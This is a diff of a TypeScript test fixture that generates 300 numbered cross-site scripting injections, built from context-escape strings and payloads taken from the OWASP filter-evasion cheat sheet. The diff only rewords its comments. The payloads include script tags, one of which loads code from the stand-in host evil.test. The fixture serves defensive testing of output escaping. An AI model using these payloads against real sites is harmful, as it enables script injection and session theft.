@@ -1,6 +1,5 @@
 /**
- * Three hundred texts that would run, load or lead somewhere if any page took them for more than text: thirty ways in,
- * each after ten ways out of where a text may stand. Each names its number, by which it is found again.
+ * 300 injections: 30 payloads after 10 escapes from their context. Each contains its number.
  * Gathered after https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html
  */
 const waysOut = [
@@ -16,7 +15,7 @@ const waysOut = [
   '\\u003c/script\\u003e',
 ];
 
-/** `hit(n)` tells the test; `evil.test` leads nowhere. */
+/** `hit(n)` reports to the test; `evil.test` does not exist. */
 const waysIn: readonly ((n: number) => string)[] = [
   (n) => `<script>hit(${n})</script>`,
   (n) => `<script src=//evil.test/hit(${n})></script>`,
@@ -54,5 +53,5 @@ export const injections: readonly string[] = waysOut.flatMap((out, row) =>
   waysIn.map((way, column) => out + way(row * waysIn.length + column)),
 );
 
-/** Which of them stand in a text. */
+/** Numbers of the injections in a text. */
 export const numbersIn = (text: string): number[] => [...text.matchAll(/hit\((\d+)\)/g)].map(([, n]) => Number(n));
